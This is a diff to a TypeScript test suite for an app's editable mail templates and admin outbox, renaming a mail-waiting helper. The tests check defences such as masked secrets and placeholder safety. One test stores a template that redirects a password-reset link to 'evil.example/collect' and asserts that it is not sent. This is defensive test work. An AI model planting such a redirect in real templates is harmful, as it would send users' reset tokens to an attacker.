@@ -3,7 +3,7 @@ import { join } from "node:path";
 import { authEndpoints, contactEndpoints, mailAdminEndpoints } from "@listwise/contracts";
 import { defineTemplate } from "../../platform/mail-templates";
 import { eventually } from "../../testing/eventually";
-import { sentMails } from "../../testing/mails";
+import { waitForMails } from "../../testing/mails";
 import { startTestApp, type TestApp } from "../../testing/test-app";
 
 const { outbox, outboxMail, templates, saveTemplate, resetTemplate, previewTemplate, testTemplate } =
@@ -42,7 +42,7 @@ test("changed text is sent, and the default text again after a reset", async () 
   const saved = await owner.call(saveTemplate, { params: { key }, body: { ...words, updatedAt: null } });
   expect(saved.data).toMatchObject({ ...words, changed: true });
   await forget(user.email);
-  const [mail] = await sentMails(site, user.email, 1);
+  const [mail] = await waitForMails(site, user.email, 1);
   expect(mail?.subject).toBe("Hello from Listwise");
   expect(mail?.text).toMatch(/^Choose another:\nhttp.*token=[\w-]+$/);
   const back = await owner.call(resetTemplate, { params: { key } });
@@ -130,7 +130,7 @@ test("doesn't send text with a redirected secret link that an older version stor
   const user = await site.asUser();
   await store("reset {{link}}", "https://evil.example/collect?u={{link}}");
   await forget(user.email);
-  const [mail] = await sentMails(site, user.email, 1);
+  const [mail] = await waitForMails(site, user.email, 1);
   expect(mail?.subject).toBe("Listwise: set a new password");
   expect(mail?.text).not.toContain("evil.example");
   await owner.call(resetTemplate, { params: { key } });
@@ -151,7 +151,7 @@ test("saving over an unseen version is a conflict", async () => {
 test("a test email goes to the caller's own address", async () => {
   const { to } = await owner.call(testTemplate, { params: { key }, body: words });
   expect(to).toBe(owner.email);
-  const [mail] = await sentMails(site, owner.email, 1);
+  const [mail] = await waitForMails(site, owner.email, 1);
   expect(mail).toMatchObject({ subject: "[Test] Hello from Listwise" });
 });
 
@@ -161,7 +161,7 @@ test("text from a stranger is never treated as a placeholder", async () => {
   const { data } = await admin.call(contactEndpoints.messages);
   const body = { status: "answered", answer: "Yes" };
   await admin.call(contactEndpoints.updateMessage, { params: { id: data[0]?.id ?? 0 }, body });
-  const [mail] = await sentMails(site, from.email, 1);
+  const [mail] = await waitForMails(site, from.email, 1);
   expect(mail?.subject).toBe("Re: {{product}}");
   expect(mail?.text).toContain("> Is this {{answer}} safe?");
 });
@@ -170,7 +170,7 @@ describe("the outbox", () => {
   test("S15: an administrator can read emails; only a superadmin sees the secrets in their links", async () => {
     const user = await site.asUser();
     await forget(user.email);
-    await sentMails(site, user.email, 1);
+    await waitForMails(site, user.email, 1);
     const { data, transport } = await eventually(
       () => admin.call(outbox, { query: { search: user.email } }),
       (answer) => answer.data.length === 1,
@@ -188,7 +188,7 @@ describe("the outbox", () => {
   test("S75: a superadmin's stolen session can't read links in the outbox without a recent sign-in", async () => {
     const [user, superadmin] = [await site.asUser(), await site.asAdmin("superadmin")];
     await forget(user.email);
-    await sentMails(site, user.email, 1);
+    await waitForMails(site, user.email, 1);
     const { data } = await eventually(
       () => superadmin.call(outbox, { query: { search: user.email } }),
       (answer) => answer.data.length === 1,
@@ -230,7 +230,7 @@ describe("the outbox", () => {
       variables: [{ name: "code", sample: "123456", secret: true }],
     });
     await site.ctx.mailer.send({ to: "coded@x.example", ...code({ code: "482913" }) });
-    await sentMails(site, "coded@x.example", 1);
+    await waitForMails(site, "coded@x.example", 1);
     const { data } = await admin.call(outbox, { query: { search: "coded@x.example" } });
     const params = { id: data[0]?.id ?? "" };
     expect((await admin.call(outboxMail, { params })).data).toMatchObject({ text: "•••", masked: true });
